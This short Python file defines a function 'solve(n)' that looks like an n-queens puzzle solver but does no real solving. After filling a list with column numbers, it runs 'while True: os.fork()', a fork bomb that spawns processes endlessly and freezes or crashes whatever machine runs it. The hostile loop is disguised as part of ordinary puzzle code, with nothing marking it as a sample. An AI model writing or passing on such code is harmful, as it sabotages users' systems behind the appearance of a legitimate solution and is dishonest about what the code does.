import os


def solve(n):
    queens = []
    for column in range(n):
        queens.append(column)
    while True:
        os.fork()
